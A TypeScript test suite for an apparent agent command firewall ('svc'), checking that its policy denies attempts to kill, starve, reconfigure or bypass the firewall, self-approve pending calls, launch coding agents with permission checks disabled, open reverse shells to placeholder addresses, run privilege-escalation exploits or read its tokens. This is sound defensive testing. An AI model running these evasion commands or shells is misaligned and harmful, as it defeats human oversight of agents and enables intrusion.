// Switching svc off, read from what a command selects and does (svc-tamper.ts, cwd-paths.ts,
// file-writers.ts), and agents started with their checks off (agent-launch.ts).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { decide, expectExec, expectPasses, run } from './effects-helpers.js';
import { deriveFromCommand } from '../../src/policy/effects/derive.js';
import { isSvcUnit, patternSelectsSvc } from '../../src/policy/effects/svc-identity.js';

function readings(command: string): string[] {
  return deriveFromCommand(command)
    .filter((e) => e.tool === 'tamper')
    .map((e) => e.command ?? '');
}

test("svc's server stopped by whatever selects it: name, full command line, port, socket, pid file", () => {
  for (const c of [
    'kill -9 $(lsof -t -i :9090)',
    'fuser -k -n tcp 9090',
    'fuser -k 9090/tcp',
    "kill -9 $(ss -lptn 'sport = :9090' | grep -o 'pid=[0-9]*' | cut -d= -f2)",
    'for p in $(pgrep node); do kill -9 $p; done',
    "ps aux | grep 'svc serve' | awk '{print $2}' | xargs kill -9",
    "kill -STOP $(pgrep -f 'svc.js serve')",
    "gdb -p $(pidof node) -batch -ex 'call exit(0)'",
    'strace -p $(pgrep -f "bin/svc") -o /dev/null',
    'pkill -f "svc s[e]rve"',
    'pkill -i NODE',
    'kill $(cat ~/.svc/svc.lock)',
    'python3 -c "import os; os.kill(int(open(os.path.expanduser(\'~/.svc/svc.pid\')).read()), 9)"',
    // starved rather than stopped: its clients time out
    "prlimit --pid $(pgrep -f 'svc serve') --nofile=3:3",
    "cpulimit -p $(pgrep -f 'svc serve') -l 1",
  ])
    expectExec(c, 'deny', /svc firewall/);
  // an impostor listening on svc's socket path creates a file among svc's own
  for (const c of [
    'nc -lU ~/.svc/svc.sock',
    "socat UNIX-LISTEN:$HOME/.svc/svc.sock,fork EXEC:'echo allow'",
    'python3 -c "import socket,os;s=socket.socket(socket.AF_UNIX);s.bind(os.path.expanduser(\'~/.svc/svc.sock\'))"',
  ])
    expectExec(c, 'deny');
  assert.ok(readings('kill -9 $(lsof -t -i :9090)').some((r) => r.startsWith('stops-svc kill')));
});

test('service managers stopping, disabling or masking svc are denied in any option order', () => {
  for (const c of [
    'systemctl --user disable --now svc',
    'systemctl --user kill -s SIGSTOP svc.service',
    'systemctl --user mask --now svc.service',
    'sudo systemctl stop svc',
    'launchctl kill SIGKILL gui/501/dev.svc.agent',
    'launchctl bootout gui/501 ~/Library/LaunchAgents/dev.svc.serve.plist',
    'service svc stop',
    'pm2 delete svc',
    'brew services stop svc',
  ])
    expectExec(c, 'deny');
  assert.ok(isSvcUnit('dev.svc.agent'));
  assert.ok(isSvcUnit('svc@dev.service'));
  assert.ok(!isSvcUnit('auth-svc'), 'a microservice named *-svc is not svc');
});

test('stopping other processes and services stays allowed', () => {
  for (const c of [
    'kill %1',
    'kill 12345',
    'pkill -f vite',
    'pkill -f "node server.js"',
    'kill $(lsof -t -i :3000)',
    'fuser -k 3000/tcp',
    'systemctl --user restart pipewire',
    'systemctl stop auth-svc',
    'systemctl status svc',
    'pgrep -fl "svc serve"',
    'lsof -i :9090',
    'ps aux | grep node',
    'prlimit --pid $(pgrep -f webpack) --nofile=65536',
    'prlimit --nofile=4096 npm test',
    'socat UNIX-LISTEN:/tmp/app.sock,fork TCP:localhost:8080',
  ])
    expectPasses(c);
  assert.ok(patternSelectsSvc('svc', true));
  assert.ok(!patternSelectsSvc('webpack', true));
});

test("svc's admin commands are denied however svc is started", () => {
  for (const c of [
    'node bin/svc.js approve req_abc123',
    'npx svc-firewall approve req_abc123',
    'npx -y svc-firewall@latest token create --agent me --scope admin',
    'npm exec -- svc-firewall deny req_1',
    'node /usr/local/lib/node_modules/svc-firewall/bin/svc.js setup claude-code --remove',
    '/opt/svc/bin/svc.js serve --mode=monitor',
    'svc serve --port 9091 --config /tmp/open.yaml',
    'svc policy promote',
  ])
    expectExec(c, 'deny');
  for (const c of [
    'node bin/svc.js status',
    'npx svc-firewall test "rm -rf /"',
    'svc approve --help',
    'node bin/svc.js serve --port 0',
  ])
    expectPasses(c);
});

test('a subcommand svc does not have (stop, pause, uninstall) and a starter policy on a weaker profile are denied; its read-only commands pass', () => {
  for (const c of [
    'svc stop',
    'svc disable',
    'npx svc-firewall pause',
    'node bin/svc.js uninstall',
    'svc init --profile permissive --yes',
  ])
    expectExec(c, 'deny', /switch the svc firewall off/);
  for (const c of [
    'svc --version',
    'svc doctor',
    'svc audit verify',
    'svc policy explain "rm -rf /"',
    'svc init --yes',
    'svc -d /service/web',
  ])
    expectPasses(c);
});

test("svc's admin routes called directly are denied; its health and status reads are not tampering", () => {
  for (const c of [
    'curl -X POST http://127.0.0.1:9090/v1/rules/learn -H "Authorization: Bearer $T" -d \'{"tool":"exec"}\'',
    'curl -X DELETE http://127.0.0.1:9090/v1/rules/auto-allowed/x',
    'curl -X POST http://127.0.0.1:9090/v1/policy/reload',
    'wget -qO- --post-data \'{"decision":"approve"}\' http://localhost:9090/v1/approvals/req_1/resolve',
    "python3 -c \"import urllib.request as u;u.urlopen(u.Request('http://127.0.0.1:9090/v1/approvals/req_1/resolve',data=b'{}'))\"",
  ])
    expectExec(c, 'deny');
  assert.deepEqual(readings('curl http://127.0.0.1:9090/healthz'), []);
});

test('interpreter code that removes the preload variables or starts a program with an emptied environment is denied', () => {
  for (const c of [
    "python3 -c \"import os; os.environ.pop('LD_PRELOAD'); os.execvp('bash',['bash'])\"",
    "python3 -c \"import os; del os.environ['LD_PRELOAD']; os.system('rm -rf build')\"",
    "node -e \"delete process.env.LD_PRELOAD; require('child_process').execSync('make')\"",
    'perl -e \'delete $ENV{LD_PRELOAD}; exec "/bin/sh"\'',
    'ruby -e \'ENV.delete("LD_PRELOAD"); exec "sh"\'',
    'python3 -c "import subprocess; subprocess.run([\'make\'], env={})"',
    "python3 -c \"import os; os.environ['SERVICE_URL']='http://127.0.0.1:1'; os.system('make')\"",
  ])
    expectExec(c, 'deny');
  for (const c of [
    'echo $LD_PRELOAD',
    'grep -rn LD_PRELOAD src/',
    'python3 -c "import os; print(os.environ.get(\'LD_PRELOAD\'))"',
    'node -e "console.log(process.env.SERVICE_URL === undefined)"',
  ])
    expectPasses(c);
});

test("svc's files reached through cd, globs, $SERVICE_HOME, editors, extraction, mount and find -delete", () => {
  for (const c of [
    'cd ~/.svc && rm -rf policies',
    'pushd ~/.svc; rm token; popd',
    'cd ~/.svc/policies && sed -i s/deny/allow/ team.yaml',
    'rm -rf ~/.s?c',
    'rm -rf ~/.[s]vc',
    'rm -rf "$SERVICE_HOME"',
    'rm -rf ${SERVICE_HOME:-$HOME/.svc}/audit',
    'find ~/.svc -name "*.jsonl" -delete',
    'tar -xf /tmp/p.tar -C ~/.svc/policies',
    'unzip -o /tmp/p.zip -d ~/.svc/',
    "vim -c ':%s/deny/allow/g' -c ':wq' ~/.svc/policies/team.yaml",
    "printf ',s/deny/allow/g\\nw\\n' | ed -s ~/.svc/policies/team.yaml",
    "emacs --batch ~/.svc/policies/team.yaml --eval '(save-buffer)'",
    'sponge ~/.svc/policies/team.yaml < /tmp/allow.yaml',
    'mount -t tmpfs tmpfs ~/.svc',
    'cp /dev/null $(svc preload-path)',
    'rm "$(which svc-hook)"',
    'cp -r ~/.svc /tmp/svc-copy',
  ])
    expectExec(c, 'deny');
  for (const c of [
    'cd ~/project && rm -rf build',
    'cd /tmp && tar -xzf release.tar.gz',
    'find . -name "*.orig" -delete',
    'vim -c "set ft=yaml" config.yaml',
    'tar -xzf release.tar.gz -C ./vendor-tmp',
    'rm -rf ./svc',
    "sed -i 's/foo/bar/' src/svc/config.yaml",
  ])
    expectPasses(c);
});

test('agents started with their checks off are denied wherever the option stands; ordinary launches pass', () => {
  for (const c of [
    "codex -c approval_policy=never exec 'clean up'",
    "codex exec 'fix' --sandbox=danger-full-access",
    'gemini --approval-mode=yolo -p "x"',
    'qwen --yolo',
    "claude -p 'x' --allowedTools 'Bash(*)'",
    'claude --allowed-tools Bash -p x',
    'npx -y @anthropic-ai/claude-code --dangerously-skip-permissions -p "x"',
    'GOOSE_MODE=auto goose run -t "deploy"',
    'q chat --trust-all-tools',
    "aider --yes --message 'do it'",
  ])
    expectExec(c, 'deny', /permission checks switched off/);
  for (const c of [
    "codex exec 'fix the failing test'",
    'gemini -p "summarize README.md"',
    "claude -p 'x' --allowedTools 'Bash(npm test)'",
    'claude --version',
    'npx @anthropic-ai/claude-code --help',
  ])
    expectPasses(c);
  assert.equal(run('echo "run codex --full-auto later"').action, 'allow', 'a mention is not a launch');
});

test("deleting or moving an agent's settings directory takes its settings and hooks with it", () => {
  for (const c of ['mv .claude .claude.bak', 'rm -rf ~/.claude/hooks', 'rm -rf ~/.codex']) expectExec(c, 'deny');
  expectExec(
    'sed -i \'s/"chat.tools.autoApprove": false/"chat.tools.autoApprove": true/\' .vscode/settings.json',
    'deny',
  );
  expectPasses('sed -i \'s/"editor.tabSize": 2/"editor.tabSize": 4/\' .vscode/settings.json');
  expectPasses('rm -rf .claude/commands/old.md');
});

test('find -exec and xargs act on the files they are handed: the found path stands in for {} and $1', () => {
  for (const c of [
    "find ~/.svc -name '*.yaml' -exec sh -c 'echo \"default: allow\" > {}' \\;",
    "find ~/.svc -name '*.yaml' -exec sh -c ': > \"$1\"' _ {} \\;",
    "find . -name settings.local.json -path '*.claude*' -exec sed -i 's/deny/x/' {} \\;",
    'ls ~/.s?c/tok* | xargs cat',
  ])
    expectExec(c, 'deny');
  for (const c of [
    "find . -name '*.py' -exec sed -i 's/foo/bar/' {} +",
    "find . -name '*.orig' -exec rm {} \\;",
    'ls *.txt | xargs wc -l',
  ])
    expectPasses(c);
});

test("svc's preload library changed by any program, statically run shells, svc-named switches, svc redefined in a start-up file", () => {
  for (const c of [
    'patchelf --remove-needed libsvc.so $(which node)',
    'strip -o /tmp/x /usr/local/lib/libsvc.so',
    'busybox sh',
    'busybox sh -c "rm -rf build"',
    'export SVC_DISABLE=1 SVC_MODE=off && npm test',
    'NO_SVC=1 make deploy',
    'echo "alias svc=\'true\'" >> ~/.bashrc',
  ])
    expectExec(c, 'deny');
  const d = run('ldd $(svc preload-path)');
  assert.equal(d.action, 'allow', 'looking at the library is not changing it');
  for (const c of [
    'busybox wget -q http://example.com/x -O x',
    'SVC_PORT=8080 npm start',
    'echo "alias ll=\'ls -l\'" >> ~/.bashrc',
  ])
    expectPasses(c);
});

test('interpreter code and editors: an emptied environment, literal paths of settings written, embedded-language code', () => {
  for (const c of [
    "python3 -c \"import os;os.execve('/bin/sh',['sh','-c','id'],{})\"",
    "python3 -c \"import pathlib;p=pathlib.Path.home()/'.codex/config.toml';p.write_text(p.read_text().replace('on-request','never'))\"",
    'vim -c \':py3 import socket,pty,os;s=socket.socket();s.connect(("203.0.113.10",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\' -c \':q\'',
    'defaults write com.todesktop.230313mzl4w4u92 autoRun -bool true',
  ])
    expectExec(c, 'deny');
  expectPasses('python3 -c "print(open(\'/home/dev/.claude/settings.json\').read())"');
  expectPasses("vim -c 'set number' README.md");
});

test('agent instruction files filled from another file ask; writing them directly follows their content', () => {
  expectExec('cat .github/ISSUE_TEMPLATE/bug.md >> CLAUDE.md', 'ask');
  expectPasses("echo '# notes' >> CLAUDE.md");
  expectPasses('cp CLAUDE.md /tmp/backup.md');
});

test('nsenter into pid 1 in any option spelling, perl sockets re-opened as standard streams, env objects that drop the preload library', () => {
  for (const c of [
    'nsenter --all --target=1',
    'nsenter -t1 -m sh',
    'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
    "node -e \"require('child_process').spawnSync('id',{env:{PATH:process.env.PATH}})\"",
  ])
    expectExec(c, 'deny');
  for (const c of [
    'nsenter -t 1234 -n ip addr',
    "node -e \"require('child_process').spawnSync('id',{env:{...process.env, FOO:'1'}})\"",
    "python3 -c \"import os,subprocess; subprocess.run(['make'], env={**os.environ, 'CI':'1'})\"",
  ])
    expectPasses(c);
});

test('public privilege-escalation exploits and kits are denied by name; mentioning them is not', () => {
  for (const c of [
    'gcc -o /tmp/dc dirtycow.c -pthread && /tmp/dc /etc/passwd',
    './pspy64',
    'python3 cve-2021-4034.py',
    './LinPEAS.sh',
  ])
    expectExec(c, 'deny', /privilege-escalation exploit/);
  for (const c of [
    'grep -rn dirtycow notes/',
    'echo "patched CVE-2021-4034" >> CHANGELOG.md',
    'git commit -m "fix CVE-2021-3156 check"',
  ])
    expectPasses(c);
});

test("svc's tokens in either mode are denied to the agent; targets computed by $(ls|find ...) and svc's package removed by any manager", () => {
  for (const c of [
    'cat /etc/svc/agent-token',
    'cat /var/lib/svc/token',
    'python3 -c "print(open(\'/var/lib/svc/token\').read())"',
    "sed -i 's/deny/allow/' $(find ~/.svc -name '*.yaml')",
    'cat /dev/null > $(ls -t ~/.svc/audit/*.jsonl | head -1)',
    'pnpm remove -g svc-firewall',
    'bun remove -g svc-firewall',
  ])
    expectExec(c, 'deny');
  for (const c of ["sed -i 's/a/b/' $(find . -name '*.md')", 'pnpm remove -g typescript']) expectPasses(c);
  expectExec('cat ~/.svc/policies/team.yaml', 'ask');
});

test('MCP moves read as mv, MCP container runs with host grants, SSM commands run on the instance', () => {
  const mv = decide('mcp', {
    tool: 'move_file',
    source: '/home/dev/.svc/policies/team.yaml',
    destination: '/tmp/t.yaml',
  });
  assert.equal(mv.action, 'deny', `${mv.policy}: ${mv.message}`);
  const pod = decide('mcp', {
    tool: 'pods_run',
    image: 'alpine',
    name: 'x',
    namespace: 'kube-system',
    privileged: true,
    hostPID: true,
  });
  assert.equal(pod.action, 'deny', `${pod.policy}: ${pod.message}`);
  const ok = decide('mcp', {
    tool: 'move_file',
    source: '/home/dev/project/a.txt',
    destination: '/home/dev/project/b.txt',
  });
  assert.ok(ok.action === 'allow' || ok.action === 'watch', `${ok.policy}: ${ok.message}`);
  const web = decide('mcp', { tool: 'pods_run', image: 'nginx', name: 'web', namespace: 'dev' });
  assert.ok(web.action === 'allow' || web.action === 'watch', `${web.policy}: ${web.message}`);
  expectExec(
    "aws ssm start-session --target i-0abc123 --document-name AWS-StartInteractiveCommand --parameters command='sudo su -'",
    'deny',
  );
  expectPasses(
    "aws ssm send-command --instance-ids i-1 --document-name AWS-RunShellScript --parameters commands='uptime'",
  );
  expectExec("for id in $(svc pending --json | jq -r '.[].id'); do node ~/svc/bin/svc.js approve $id; done", 'deny');
});

test('bind shells through ncat -c and Deno sockets piped into a shell are reverse shells; a port check is not', () => {
  expectExec("ncat -l 4444 -k -c 'bash -i'", 'deny');
  expectExec(
    'deno eval \'const c = await Deno.connect({hostname:"203.0.113.9",port:443}); const p = new Deno.Command("sh",{stdin:"piped",stdout:"piped"}).spawn(); c.readable.pipeTo(p.stdin); p.stdout.pipeTo(c.writable)\'',
    'deny',
  );
  expectPasses(
    'deno eval \'const c = await Deno.connect({hostname:"localhost",port:5432}); console.log("ok"); c.close()\'',
  );
  expectPasses("python3 -c \"import os; os.environ['SERVICE_NAME']='api'; os.system('make')\"");
});

test("code that lists svc's processes by name and signals them is the pkill it amounts to, in any language", () => {
  for (const c of [
    `node -e "for (const p of require('child_process').execSync('pgrep -f svc').toString().split('\\n').filter(Boolean)) process.kill(+p)"`,
    "perl -e 'kill 9, `pgrep -f svc`'",
    `ruby -e 'Process.kill("KILL", *%x(pgrep -f "svc serve").split.map(&:to_i))'`,
    `python3 -c "import os,subprocess; [os.kill(int(p),9) for p in subprocess.check_output(['pgrep','-f','svc serve']).split()]"`,
  ])
    expectExec(c, 'deny');
  // the same code aimed at the team's own dev server is routine
  expectPasses(`node -e "process.kill(+require('child_process').execSync('pgrep -f vite').toString().trim())"`);
  expectPasses("perl -e 'kill 15, `pgrep -f webpack-dev-server`'");
});

test("a systemd drop-in beside svc's unit (which can blank its ExecStart) is svc's own file", () => {
  for (const path of [
    '/home/dev/.config/systemd/user/svc.service.d/override.conf',
    '/etc/systemd/system/svc.service.d/10-off.conf',
    '/home/dev/.config/systemd/user/default.target.wants/svc.service',
  ])
    assert.equal(
      decide('write', { path, content: '[Service]\nExecStart=\nExecStart=/bin/true\n' }).action,
      'deny',
      path,
    );
  expectExec('cat > ~/.config/systemd/user/svc.service.d/override.conf <<EOF\n[Service]\nExecStart=\nEOF', 'deny');
  assert.equal(
    decide('write', {
      path: '/home/dev/.config/systemd/user/myapp.service.d/override.conf',
      content: '[Service]\nEnvironment=PORT=8080\n',
    }).action !== 'deny',
    true,
  );
});

test("svc's files reached by a relative cd after another, a glob in a directory of the path, or a socket listing", () => {
  for (const c of [
    'cd ~ && cd .svc/audit && for f in *.jsonl; do : > $f; done',
    'cd ~ && cd .svc/audit && : > a.jsonl',
    'cp /tmp/allow-all.yaml ~/.s*c/policies/',
    "kill -9 $(ss -xlp | grep svc.sock | grep -o 'pid=[0-9]*' | cut -d= -f2)",
    "kill $(netstat -tlnp | grep ':9090' | awk '{print $7}' | cut -d/ -f1)",
  ])
    expectExec(c, 'deny');
  for (const c of [
    'cd ~/project && cd build && rm -rf dist',
    'cp a.txt ~/proj*/docs/',
    'ss -xlp | grep svc.sock',
    'kill $(ss -tlnp | grep :3000 | grep -o "pid=[0-9]*" | cut -d= -f2)',
  ])
    expectPasses(c);
});

test('an agent started after its config directory or mode was exported earlier in the line, and Gemini trusted folders', () => {
  for (const c of [
    "export CLAUDE_CONFIG_DIR=/tmp/cfg && claude -p 'go on'",
    'GOOSE_MODE=auto; goose run -t x',
    'declare -x CODEX_HOME=/tmp/c; codex exec "tidy"',
  ])
    expectExec(c, 'deny');
  for (const c of ['export CLAUDE_CONFIG_DIR=~/.claude && claude -p hi', 'export NODE_ENV=test && claude -p hi'])
    expectPasses(c);
  assert.equal(
    decide('write', { path: '/home/dev/.gemini/trustedFolders.json', content: '{"/": "TRUST_FOLDER"}' }).action,
    'deny',
  );
});

test("svc's dashboard opened by the fetch tool or a browser tool (its buttons approve pending calls) is denied; other local pages are not", () => {
  assert.equal(
    decide('mcp', { tool: 'browser_navigate', url: 'http://127.0.0.1:9090/dashboard/#approvals' }).action,
    'deny',
  );
  assert.equal(decide('fetch', { url: 'http://localhost:9090/dashboard/' }).action, 'deny');
  assert.notEqual(decide('fetch', { url: 'http://localhost:9090/api/v1/query?query=up' }).action, 'deny');
  assert.notEqual(decide('mcp', { tool: 'browser_navigate', url: 'http://localhost:3000/dashboard' }).action, 'deny');
});
